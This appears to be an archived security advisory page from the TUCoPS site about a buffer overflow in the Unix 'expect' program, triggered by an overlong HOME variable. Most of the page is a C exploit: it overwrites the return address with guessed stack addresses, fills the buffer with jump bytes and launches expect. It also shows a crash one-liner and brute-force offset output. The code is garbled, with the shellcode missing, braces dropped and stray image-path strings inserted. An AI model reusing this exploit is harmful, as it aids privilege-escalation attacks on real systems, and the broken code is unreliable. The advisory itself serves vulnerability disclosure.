Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Unix :: General :: expect.htm

Expect overflow





    Kevin Finisterre posted  following.  He  found an overflow  in and
    coded the exploit code for several versions of  /usr/bin/expect...
    on SCO,  linux, and  BSD variants.   We are  unable to  think of a
    situation where this would be  useful due to the fact  that expect
    is not suid... except on Cray.

        [root@linux elguapo]# export HOME=`perl -e 'print "A" x 433'`
        [root@linuxelguapo]# expect
        Segmentation fault (core dumped)

    // or
    //this is output from my brute script...
    //Stack pointer: 0xbffffa18
    //       Offset: 0x2d3
    //  Return addr: 0xbffff745
    //stack/ line 11:  2190 Illegal instruction     (core dumped)
    //Stack pointer: 0xbffffa18
    //       Offset: 0x2d4
    //  Return addr: 0xbffff744
    //note that I was root when I ran this ... expect is not suid
    #define BUFFERSIZE 533
    unsigned long sp(void)
            __asm__("movl %esp, %eax");
    int main(int argc,char **argv)char hell[] =
            int i;
            int offset;
            long esp;
            long ret;
            long *addr_ptr;
            char *buffer, *ptr;
            offset = atoi(argv[1]);
            esp = sp();
            ret = esp-offset;
            if(!(buffer = malloc(BUFFERSIZE)))
            ptr = buffer;
            addr_ptr = (long *)ptr;for (i=0; i<BUFFERSIZE; i+=4)
                    *(addr_ptr++) = ret;
            for(i=0; i<BUFFERSIZE/2; i++)
                    buffer[i] = '\xeb02';
            ptr = buffer + ((BUFFERSIZE/2) - (strlen(hell)/2));
            for(i=0; i<strlen(hell); i++)
                    *(ptr++) = hell[i];
            buffer[BUFFERSIZE-1] = 0;
            setenv("HOME", buffer, 1);
            execlp("/usr/bin/expect", 0);Nothing... Just keep Your expect non suid.

TUCoPS is optimized to lookbest in Firefox® on a widescreenmonitor (1440x900 orbetter).
Site design & layout copyright © 1986-2015 AOH